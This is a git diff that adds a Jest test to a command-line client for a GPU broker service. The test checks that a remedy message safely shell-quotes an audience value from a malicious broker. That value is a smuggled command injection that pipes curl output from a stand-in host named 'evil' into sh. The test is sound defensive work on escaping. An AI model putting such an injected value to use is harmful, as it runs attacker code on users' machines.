@@ -1,5 +1,6 @@
 import { describe, expect, test } from '@jest/globals';
 import { durationText, momentText, readDuration, readMoment } from '../../src/cli/durations.js';
+import { told } from '../../src/cli/error-words.js';
 import { exitCodeOf } from '../../src/cli/failure.js';
 import { readApi } from '../../src/cli/files/config.js';
 import { gpuText } from '../../src/cli/gpu-text.js';
@@ -8,6 +9,7 @@ import { amountText, priceText } from '../../src/cli/money.js';
 import { gpusMeant } from '../../src/cli/order.js';
 import { idsMeant, shortIds } from '../../src/cli/short-ids.js';
 import { fourWords, twoWords } from '../../src/cli/two-words.js';
+import { WorldLandError } from '../../src/client/errors.js';
 import type { MarketGpu } from '../../src/client/shapes.js';
 import {
   readSignAnswer,
@@ -230,4 +232,12 @@ describe('what wl and the sign page tell each other', () => {
       Array(4).fill(undefined),
     );
   });
+});
+
+test('what a false broker calls itself is one word of the command to type', () => {
+  const proposed = "https://a';curl evil|sh;'";
+  const error = new WorldLandError('protocol', 'another broker', { data: { field: 'audience', proposed } });
+  expect(told(error, { api: 'https://broker.example.com' }).remedy).toContain(
+    String.raw`wl login --api 'https://a'\'';curl evil|sh;'\'''   (or --audience`,
+  );
 });
